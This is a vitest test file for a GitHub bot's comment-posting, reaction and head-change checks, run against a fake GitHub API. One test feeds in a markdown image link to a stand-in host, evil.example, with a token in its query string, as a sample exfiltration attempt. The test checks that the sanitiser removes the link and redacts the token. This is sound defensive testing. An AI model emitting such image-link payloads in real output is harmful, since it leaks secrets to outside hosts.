import nock from "nock";
import { afterEach, describe, expect, it } from "vitest";
import {
  addCommentReaction,
  postIssueComment,
  PublishError,
  stopIfHeadMoved,
} from "../../src/publish/index.ts";
import { startFakeGitHub } from "../helpers/openapi-fake-github.ts";

afterEach(() => {
  nock.cleanAll();
});

const commentsTemplate = "/repos/{owner}/{repo}/issues/{issue_number}/comments";

describe("postIssueComment", () => {
  it("posts the reply sanitised: no pings, no foreign images, no secrets", async () => {
    const github = await startFakeGitHub();
    github.api.post("/repos/octo/app/issues/4/comments").reply(201, { id: 77 });
    const token = `ghp_${"k".repeat(36)}`;
    const posted = await postIssueComment(github.octokit, {
      owner: "octo",
      repo: "app",
      issueNumber: 4,
      body: `Hi @octo/core, see ![x](https://evil.example/?d=${token}) and ${token}`,
    });
    expect(posted).toEqual({ id: 77 });
    github.assertDone();
    const body = (github.recorder.requestsTo("POST", commentsTemplate)[0]?.body as { body: string }).body;
    expect(body).not.toMatch(/@octo/);
    expect(body).toContain("@\u200Docto/core");
    expect(body).not.toContain("evil.example");
    expect(body).not.toContain(token);
    expect(body).toContain("[redacted]");
  });

  it("raises a non-retryable PublishError when GitHub refuses", async () => {
    const github = await startFakeGitHub();
    github.api.post("/repos/octo/app/issues/4/comments").reply(403, { message: "Resource not accessible" });
    const error = await postIssueComment(github.octokit, {
      owner: "octo",
      repo: "app",
      issueNumber: 4,
      body: "x",
    }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PublishError);
    expect(error).toMatchObject({ retryable: false, status: 403 });
  });
});

describe("addCommentReaction", () => {
  it("adds 👀 to the comment", async () => {
    const github = await startFakeGitHub();
    github.api.post("/repos/octo/app/issues/comments/55/reactions").reply(201, { id: 1, content: "eyes" });
    await addCommentReaction(github.octokit, { owner: "octo", repo: "app", commentId: 55 });
    github.assertDone();
    expect(github.recorder.requests[0]?.body).toEqual({ content: "eyes" });
  });
});

describe("stopIfHeadMoved", () => {
  const pr = {
    owner: "octo",
    repo: "app",
    pullNumber: 4,
    headSha: "a".repeat(40),
    baseSha: "b".repeat(40),
    installationId: 1,
  };
  const pull = (headSha: string): Record<string, unknown> => ({
    number: 4,
    state: "open",
    merged: false,
    head: { sha: headSha, repo: { full_name: "octo/app" } },
    base: { sha: "b".repeat(40), repo: { full_name: "octo/app" } },
  });

  it("lets the work go on when the head is the authorised one, writing nothing", async () => {
    const github = await startFakeGitHub();
    github.api.get("/repos/octo/app/pulls/4").reply(200, pull("a".repeat(40)));
    expect(await stopIfHeadMoved(github.octokit, pr, "a".repeat(40))).toBe(false);
    github.assertDone();
    expect(github.recorder.requests).toHaveLength(1);
  });

  it("stops with 'head changed' and says so on the pull request", async () => {
    const github = await startFakeGitHub();
    github.api.get("/repos/octo/app/pulls/4").reply(200, pull("c".repeat(40)));
    github.api.post("/repos/octo/app/issues/4/comments").reply(201, { id: 5 });
    expect(await stopIfHeadMoved(github.octokit, pr, "a".repeat(40))).toBe(true);
    github.assertDone();
    const body = (github.recorder.requestsTo("POST", commentsTemplate)[0]?.body as { body: string }).body;
    expect(body).toContain("head changed");
    expect(body).toContain("cccccccccccc");
  });
});
